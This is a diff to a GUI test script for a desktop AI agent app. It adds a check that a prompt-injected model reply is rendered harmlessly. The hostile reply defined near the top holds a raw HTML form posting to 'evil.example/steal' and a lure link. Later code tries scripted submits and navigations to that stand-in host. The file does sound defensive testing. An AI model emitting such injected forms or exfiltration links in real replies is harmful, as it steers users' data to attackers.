@@ -10,6 +10,7 @@ screenshot of the window mid-run there (the README's picture).
 """
 
 import argparse
+import math
 import os
 import re
 import subprocess
@@ -29,6 +30,16 @@ DENIED = (1800, 940)
 
 
 HELLO = "Hello from **the stand-in**. " * 6
+
+# What a prompt-injected page can make the model write: a form (raw HTML) and a link.
+HOSTILE = ('I read the page.\n\n'
+           '<form action="https://evil.example/steal"><input name="q" value="go">'
+           '<button>Continue</button></form>\n\n'
+           'See [the documentation](https://evil.example/docs?from=deskhand#top).\n')
+LINK = "https://evil.example/docs?from=deskhand#top"
+
+# An approval card takes no decision in its first 700 ms (ApprovalCard.svelte).
+CARD_SETTLE_S = 0.8
 
 
 def computer(**action):
@@ -55,6 +66,9 @@ def script():
             text_reply("Continued after the stop."),
             # "And again": stopped by the global shortcut, with the window not focused.
             text_reply("Working again", hang_after=5),
+            # "Read that page": the hostile reply, streamed whole, then a stream that does
+            # not end (message_start, ping, content_block_start, then 8-character deltas).
+            text_reply(HOSTILE, hang_after=3 + math.ceil(len(HOSTILE) / 8)),
         ],
     }
 
@@ -132,11 +146,19 @@ def run(app, app_binary, clicks, screenshot_path):
     check("the approval shows where the click lands",
           s.find_all('section[aria-label="Approval needed"] [data-testid="marker"]') != [],
           card.seen[:80])
+    time.sleep(CARD_SETTLE_S)
     s.click('section[aria-label="Approval needed"] button', text="Approve", from_script=True)
     s.wait_gone('section[aria-label="Approval needed"]')
     s.wait_for('li.entry.done img[alt^="Screen after left_click"]',
                what="the approved click's screenshot")
     s.wait_for('section[aria-label="Approval needed"]', text="left_click", what="the second approval")
+    # The window came back from the bar for the approval without taking the focus: it asks
+    # the window manager for attention instead (the urgency hint of its WM_HINTS).
+    window = subprocess.run(["xdotool", "search", "--onlyvisible", "--name", "^Deskhand$"],
+                            check=True, capture_output=True, text=True).stdout.split()[0]
+    hints = subprocess.run(["xprop", "-id", window, "WM_HINTS"], check=True,
+                           capture_output=True, text=True).stdout
+    check("an approval asks for attention", "urgency hint bit is set" in hints, hints)
     if screenshot_path:
         # The window is back from the bar: let it draw at full size first.
         s.execute_async("const done = arguments[0];"
@@ -146,6 +168,7 @@ def run(app, app_binary, clicks, screenshot_path):
               > 10_000, screenshot_path)
     reason = s.wait_for('section[aria-label="Approval needed"] label.reason input')
     reason.send_keys("not that one")
+    time.sleep(CARD_SETTLE_S)
     s.click('section[aria-label="Approval needed"] button', text="Deny", from_script=True)
     s.wait_for('article[aria-label="Deskhand"]', text="the other one was denied")
     presses = clicks.presses()
@@ -200,6 +223,88 @@ def run(app, app_binary, clicks, screenshot_path):
     subprocess.run(["xdotool", "key", "ctrl+shift+Escape"], check=True)
     check("Ctrl+Shift+Escape stops the run", s.wait_for(
         "p.note", text="Stopped.", what="the stopped note") is not None)
+
+    hostile_reply(app)
+
+
+def x_click(session, element, button=1):
+    """Clicks the middle of `element`'s first line with the X server's pointer, as a person
+    would (WebDriver's click refuses a window without the focus)."""
+    x, y = session.execute("arguments[0].scrollIntoView({block: 'center'});"
+                           "const r = arguments[0].getClientRects()[0];"
+                           "return [r.x + r.width / 2, r.y + r.height / 2]", element.ref)
+    window = subprocess.run(["xdotool", "search", "--onlyvisible", "--name", "^Deskhand$"],
+                            check=True, capture_output=True, text=True).stdout.split()[0]
+    # (No --sync: it waits for the pointer to move, and it may be there already.)
+    subprocess.run(["xdotool", "mousemove", "--window", window, str(round(x)), str(round(y)),
+                    "sleep", "0.2", "click", str(button)], check=True, timeout=10)
+
+
+def native_dialog(title, timeout=10):
+    """The X window id of the shell's own (GTK) dialog titled `title`, once it shows."""
+    try:
+        found = subprocess.run(["xdotool", "search", "--sync", "--onlyvisible", "--name",
+                                title], check=True, capture_output=True,
+                               text=True, timeout=timeout)
+    except subprocess.SubprocessError:
+        return None
+    return found.stdout.split()[0]
+
+
+def hostile_reply(app):
+    """A reply with a form and a link, while its run goes on: clicking them leaves the window
+    on the app, and the run can still be stopped."""
+    s = app.session
+    s.execute("window.deskhandPage = 'the same page'")
+    home = s.execute("return location.href")
+    app.send("Read that page")
+    draft = 'article[aria-label="Deskhand (typing)"]'
+    link = s.wait_for(f"{draft} a", text="the documentation", what="the reply's link")
+    form = s.wait_for(f"{draft} p", text="<button>Continue</button>", what="the form, as text")
+    s.wait_gone("p.note")  # the previous run's "Stopped."
+    check("the reply's form is text: no form or control of it is in the page",
+          s.execute("return document.querySelectorAll("
+                    "'.markdown :is(form, input, select, textarea, dialog, [popover])').length")
+          == 0, form.seen)
+    x_click(s, form)
+
+    # The link, clicked, middle-clicked and right-clicked on the display: each time the shell
+    # asks first, in a dialog of its own (GTK, not the page) that shows the full address, and
+    # Esc answers it, as Cancel.
+    for button, how in [(1, "a click"), (2, "a middle-click"), (3, "the context menu")]:
+        x_click(s, link, button)
+        dialog = native_dialog("Open this link?")
+        check(f"{how} on a link asks in a native dialog first", dialog is not None)
+        subprocess.run(["xdotool", "windowactivate", "--sync", dialog], check=True, timeout=10)
+        subprocess.run(["xdotool", "key", "--clearmodifiers", "Escape"], check=True, timeout=10)
+        gone = time.monotonic() + 10
+        while native_dialog("Open this link?", timeout=1) and time.monotonic() < gone:
+            time.sleep(0.1)
+        check("Esc answers the dialog with no", native_dialog("Open this link?", timeout=1)
+              is None)
+
+    # Had a form got through: its submit, to another site or to the app itself (which would
+    # reload the page while the run goes on), is refused by the CSP; script that navigates or
+    # opens a window, by the shell's navigation guard.
+    s.execute("""
+        for (const action of ['https://evil.example/steal', '/']) {
+            const form = document.createElement('form');
+            form.action = action;
+            document.body.append(form);
+            form.requestSubmit();
+        }
+        window.open('https://evil.example/popup');
+    """)
+    s.execute("setTimeout(() => { location.href = 'https://evil.example/replaced'; }, 0)")
+    time.sleep(1.5)
+    check("the window is still the app's page, and the only window",
+          (s.execute("return location.href"), s.execute("return window.deskhandPage"),
+           len(s._session("GET", "/window/handles")))
+          == (home, "the same page", 1))
+    check("the run can still be stopped", s.wait_for(
+        "header button.stop", what="the Stop button") is not None)
+    s.click("header button.stop", from_script=True)
+    s.wait_for("p.note", text="Stopped.", what="the stopped note after the hostile reply")
 
 
 def main():
